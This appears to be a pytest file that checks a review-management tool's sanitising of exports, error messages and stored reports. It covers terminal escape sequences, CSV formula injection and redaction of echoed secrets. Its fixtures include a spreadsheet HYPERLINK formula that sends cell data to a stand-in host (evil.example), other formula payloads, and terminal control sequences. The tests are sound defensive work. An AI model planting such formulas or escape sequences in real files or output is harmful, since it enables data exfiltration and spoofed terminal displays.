"""Output is inert everywhere, and secrets are never shown.

A review, a platform's error or a tracker's answer is untrusted text: no export, no line
printed by ``sync`` or ``sources``, and nothing stored may carry a control character a
terminal acts on, a spreadsheet formula, or any recognisable piece of a secret.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import threading
from pathlib import Path

from conftest import trustpilot_workspace, workspace_with, write_jsonl
from replydesk import cli, secrets
from replydesk.domain.errors import ReplydeskError, SourceError
from replydesk.domain.redact import redact, remember
from replydesk.domain.text import csv_cell, inert, json_inert
from replydesk.services.exporting import CSV_COLUMNS, write
from replydesk.services.importing import import_file
from replydesk.services.sources_view import source_rows
from replydesk.services.sync import SourceReport, SyncStatus
from replydesk.store import Store

ESC_TITLE = "\x1b]0;pwned\x07"  # sets the terminal's title
ESC_RED = "\x1b[31m"
C1_CSI = "\x9b"  # the one-byte CSI
RLO = "\u202e"  # right-to-left override
BIDI = frozenset(range(0x202A, 0x202F)) | frozenset(range(0x2066, 0x206A))


def raw_controls(text: str, allowed: str = "\n\t") -> list[str]:
    """Every character a terminal would act on: C0 (but ``allowed``), DEL, C1, bidi."""
    return [
        ch
        for ch in text
        if (ord(ch) < 0x20 and ch not in allowed) or 0x7F <= ord(ch) <= 0x9F or ord(ch) in BIDI
    ]


def raw_control_bytes(data: bytes) -> list[str]:
    """The same, scanning a UTF-8 file's bytes (C1 and bidi are several bytes each)."""
    bad = [f"byte {b:#04x}" for b in data if (b < 0x20 and b not in b"\n\t") or b == 0x7F]
    return bad + raw_controls(data.decode("utf-8"))


# ------------------------------------------------------------------ the sanitisers


def test_inert_makes_controls_visible_and_leaves_normal_text_alone():
    assert inert("Hello,\n\tworld — Ελληνικά, ça va?") == "Hello,\n\tworld — Ελληνικά, ça va?"
    shown = inert(f"a{ESC_TITLE}b{ESC_RED}c{C1_CSI}d{RLO}e\x00f\x7fg\rh\r\ni")
    assert raw_controls(shown) == []
    assert shown == "a␛]0;pwned␇b␛[31mc<U+009B>d<U+202E>e␀f␡g␍h\ni"
    assert inert(shown) == shown  # already inert: unchanged


def test_csv_cell_defuses_formulas_and_controls():
    for formula in ('=HYPERLINK("http://x","y")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        cell = csv_cell(formula)
        assert cell.startswith("'"), cell
        assert raw_controls(cell) == [] or cell[1] == "\t"
    assert csv_cell("a normal = review") == "a normal = review"
    assert csv_cell(f"bad{ESC_RED}") == "bad␛[31m"
    assert (csv_cell(None), csv_cell(3), csv_cell(-1), csv_cell(0.75)) == ("", "3", "-1", "0.75")
    assert csv_cell(True) == "True"


def test_json_inert_escapes_and_still_decodes_to_the_same_text():
    value = {"t": f"x{ESC_TITLE}\x00{C1_CSI}\x7f{RLO}\u2066é"}
    text = json_inert(json.dumps(value, ensure_ascii=False))
    assert raw_controls(text) == [] and "é" in text
    assert json.loads(text) == value


def test_every_error_message_is_redacted_then_inert():
    remember("ghp_0123456789abcdefABCDEF")
    exc = SourceError(f"HTTP 401 ({ESC_TITLE}token ghp_0123456789abcdefABCDEF)\nsecond line")
    assert "ghp_0123" not in exc.message and raw_controls(exc.message) == []
    assert "\nsecond line" in exc.message
    assert str(ReplydeskError("two\nlines")) == "two\nlines"


# ------------------------------------------------------------------ redaction


SECRET = "Sx9-QmT4rLp2Vw8ZkN6yBc"
KEY = "tp-key-3f9a1c77e2"


def pieces(value: str, size: int = 8) -> list[str]:
    return [value[i : i + size] for i in range(len(value) - size + 1)]


def test_redact_catches_forms_fragments_and_cut_off_starts():
    remember(SECRET)
    remember(KEY)
    remember(f"{KEY}:{SECRET}")
    basic = base64.b64encode(f"{KEY}:{SECRET}".encode()).decode()
    cases = [
        f"Authorization: Basic {basic}",
        f"echo {SECRET[:15]} and more",
        f"inside a longer base64: {base64.b64encode(b'xy' + SECRET.encode()).decode()}",
        f"url {SECRET.replace('-', '%2D')}",
        f"cut short: {SECRET[:5]}",
        f"cut short: {basic[:6]}…",
    ]
    for text in cases:
        out = redact(text)
        assert "***" in out, (text, out)
        for piece in pieces(SECRET) + pieces(basic) + pieces(KEY):
            assert piece not in out, (text, out)
    assert redact(f"cut short: {SECRET[:5]}") == "cut short: ***"
    # ordinary words are left alone: only remembered values are matched
    normal = "Sx9 is a sentence about tokens, keys and secrets: nothing to hide"
    assert redact(normal) == normal


def test_short_secrets_are_redacted_whole_only():
    remember("abcd12")
    assert redact("x abcd12 y") == "x *** y"
    assert redact("x abcd y") == "x abcd y"


def test_redact_is_safe_while_threads_remember():
    remember("token-first-abcdefgh")
    stop = threading.Event()

    def remembering() -> None:
        n = 0
        while not stop.is_set() and n < 5000:
            remember(f"token-{n:06d}-abcdefgh")
            n += 1

    workers = [threading.Thread(target=remembering) for _ in range(3)]
    for w in workers:
        w.start()
    try:
        for i in range(200):  # a crash ("set changed size") or a leak fails the test
            assert redact(f"{i}: token-first-abcdefgh") == f"{i}: ***"
    finally:
        stop.set()
        for w in workers:
            w.join()


# ------------------------------------------------------------------ exports


NASTY = [
    {
        "id": "n1",
        "author": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "title": f"Title {ESC_TITLE} here",
        "body": f"Red {ESC_RED}text\x1b[0m, bell\x07, nul\x00, csi {C1_CSI}2J, {RLO}txet",
        "rating": 1,
        "created_at": "2026-11-01T10:00:00Z",
    },
    {"id": "n2", "author": "+1", "body": "-2 stars from me", "rating": 2},
    {"id": "n3", "author": "@SUM(A1:A9)", "title": "-3", "body": "plain\nmulti-line\tbody"},
]


def _nasty_workspace(ws, tmp_path: Path):
    report = import_file(ws, write_jsonl(tmp_path / "nasty.jsonl", NASTY), source="shop")
    assert report.new == 3
    return ws


def test_csv_export_has_no_raw_control_and_no_formula(ws, tmp_path):
    _nasty_workspace(ws, tmp_path)
    out = tmp_path / "e.csv"
    with out.open("w", encoding="utf-8", newline="") as fh:
        assert write(ws, fh, "csv") == 3
    data = out.read_bytes()
    assert raw_control_bytes(data) == []
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(data.decode()))}
    assert list(next(iter(rows.values()))) == CSV_COLUMNS
    assert rows["n1"]["author"].startswith("'=HYPERLINK(")
    assert (rows["n2"]["author"], rows["n2"]["body"]) == ("'+1", "'-2 stars from me")
    assert (rows["n3"]["author"], rows["n3"]["title"]) == ("'@SUM(A1:A9)", "'-3")
    assert rows["n1"]["title"] == "Title ␛]0;pwned␇ here"
    assert rows["n3"]["body"] == "plain\nmulti-line\tbody"  # normal text as it was
    assert rows["n1"]["rating"] == "1"
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_jsonl_export_escapes_controls_and_imports_back_the_same(ws, tmp_path):
    _nasty_workspace(ws, tmp_path)
    out = tmp_path / "e.jsonl"
    with out.open("w", encoding="utf-8") as fh:
        assert write(ws, fh) == 3
    data = out.read_bytes()
    assert raw_control_bytes(data) == []
    assert b"\\u009b" in data and b"\\u202e" in data and b"\\u001b" in data
    again = tmp_path / "again.db"
    assert cli.main(["--db", str(again), "import", str(out)]) == 0
    with Store(again) as copy:
        for original in ws.store.reviews.list():
            back = copy.reviews.by_external(original.source, original.external_id)
            assert (back.author, back.title, back.body) == (
                original.author,
                original.title,
                original.body,
            )
    # a NUL is kept as U+FFFD on both engines (PostgreSQL cannot store one)
    assert ws.store.reviews.by_external("shop", "n1").body == NASTY[0]["body"].replace(
        "\x00", "\ufffd"
    )


# ------------------------------------------------------------------ a platform's echo


def _echoing_trustpilot(server) -> str:
    """A token endpoint that refuses the credentials and echoes them, cut and encoded,
    with escape sequences, in its error."""
    basic = base64.b64encode(f"{KEY}:{SECRET}".encode()).decode()

    @server.route("POST", r"/v1/oauth/oauth-business-users-for-applications/accesstoken")
    def token(req):
        echo = (
            f"{ESC_TITLE}{ESC_RED}denied{C1_CSI}2J{RLO} auth={req.headers.get('authorization')}"
            f" b64={basic} key={KEY} prefix={SECRET[:15]} url={SECRET.replace('-', '%2D')}"
            "\x1b[0m\x00"
        )
        return 401, {}, {"message": echo}

    return basic


def _assert_clean(text: str, basic: str, where: str) -> None:
    for value in (SECRET, KEY, basic, *pieces(SECRET), *pieces(basic), *pieces(KEY)):
        assert value not in text, (where, value, text)
    assert raw_controls(text) == [], (where, text)


def test_an_echoing_platform_leaks_nothing_to_output_reports_or_the_database(
    server, tmp_path, capsys
):
    basic = _echoing_trustpilot(server)
    ws = trustpilot_workspace(tmp_path, server)
    secrets.set("tp-key", KEY)
    secrets.set("tp-secret", SECRET)
    ws.close()
    args = ["--config", str(tmp_path / "config.toml"), "--db", str(tmp_path / "ws.db")]
    assert cli.main([*args, "sync"]) == 1
    out, err = capsys.readouterr()
    assert "ERROR" in out and "HTTP 401" in out and "***" in out
    _assert_clean(out + err, basic, "sync")
    assert cli.main([*args, "sources"]) == 0
    out, err = capsys.readouterr()
    assert "error: HTTP 401" in out
    _assert_clean(out + err, basic, "sources")

    again = workspace_with(tmp_path, (tmp_path / "config.toml").read_text())
    try:
        report = again.store.sources.states()["tp"].last_report
        _assert_clean(json.dumps(report, ensure_ascii=False), basic, "stored report")
        assert "HTTP 401" in report["error"]
        (row,) = source_rows(again)
        _assert_clean(row.line() + json.dumps(row.report, ensure_ascii=False), basic, "row")
    finally:
        again.close()
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("ws.db*"))
    for value in (SECRET, KEY, basic, *pieces(SECRET), *pieces(basic), *pieces(KEY)):
        assert value.encode() not in stored, value
    for raw in (ESC_TITLE, ESC_RED, f"{C1_CSI}2J", f"{RLO} auth"):
        assert raw.encode() not in stored, raw


def test_source_report_lines_are_inert_and_keep_their_line_breaks():
    report = SourceReport(
        "shop",
        "file",
        status=SyncStatus.PARTIAL,
        malformed=2,
        malformed_reasons=[f"line 3: bad {ESC_TITLE}", "line 9: two\nlines"],
    )
    line = report.line()
    assert raw_controls(line) == [] and "␛]0;pwned␇" in line
    assert line.count("\n") == 3 and "\n" + " " * 39 + "lines" in line
    failed = SourceReport("shop", "file", status=SyncStatus.ERROR, error=f"x{C1_CSI}\ny")
    assert failed.line() == "shop               ERROR    x<U+009B>\n" + " " * 27 + "y"
    assert raw_controls(json.dumps(failed.stored(), ensure_ascii=False)) == []


def test_the_csv_row_and_normalise_fast_paths_agree_with_the_careful_ones():
    """Rows with no control and no formula-like start skip the per-cell work, and ASCII
    skips NFC: the results must be exactly those of the careful paths."""
    import random
    import unicodedata

    from replydesk.domain.text import csv_cell, csv_row, normalise

    pieces = ["a", "=1", "+", "-", "@x", "\t", "\r", "\n", "\r\n", "é", "e\u0301", "\ufeff",
              "\x1b[31m", "\u202e", "\x85", "  ", "7", "Ω", "ﬁ", "\u0958"]  # fmt: skip
    rnd = random.Random(5)
    for _ in range(3000):
        values: list[object] = [
            "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 6))) for _ in range(4)
        ]
        values += [rnd.choice([None, 3, -1, 0.5, True])]
        assert csv_row(values) == [csv_cell(v) for v in values], values
        text = str(values[0])
        careful = unicodedata.normalize(
            "NFC", text.lstrip("\ufeff").replace("\r\n", "\n").replace("\r", "\n")
        )
        assert normalise(text) == careful, text
